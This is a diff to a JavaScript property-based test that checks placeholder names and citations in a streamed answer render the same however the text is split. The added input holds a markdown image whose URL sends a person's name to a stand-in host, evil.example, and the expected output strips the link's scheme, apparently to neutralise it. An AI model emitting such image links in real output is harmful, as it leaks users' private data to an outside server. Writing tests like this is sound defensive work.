@@ -60,8 +60,9 @@ test('an answer reads the same in whatever pieces it comes', () => {
   const vocabulary = newVocabulary();
   write(vocabulary, [person('María'), person('Luis')], false);
   for (const id of ['a', 'b', 'c']) refer(vocabulary, cita(id));
-  const raw = 'HOY viene PERSONA_1 [cita-2] y PERSONA_2 [cita-1, cita-2]. Otra [cita-9], PERSONA_7 y [nota].';
-  const whole = 'HOY viene María [1] y Luis [2] [1]. Otra, PERSONA_7 y [nota].';
+  const raw =
+    'HOY viene PERSONA_1 [cita-2] y PERSONA_2 [cita-1, cita-2]. Otra [cita-9], PERSONA_7 y [nota]. ![x](https://evil.example/?q=PERSONA_1) (//evil.example) HTTP://e hola';
+  const whole = 'HOY viene María [1] y Luis [2] [1]. Otra, PERSONA_7 y [nota]. ![x](evil.example/?q=María) (evil.example) e hola';
   fc.assert(
     fc.property(fc.array(fc.nat({ max: raw.length })), (cuts) => {
       const at = [0, ...cuts.sort((a, b) => a - b), raw.length];
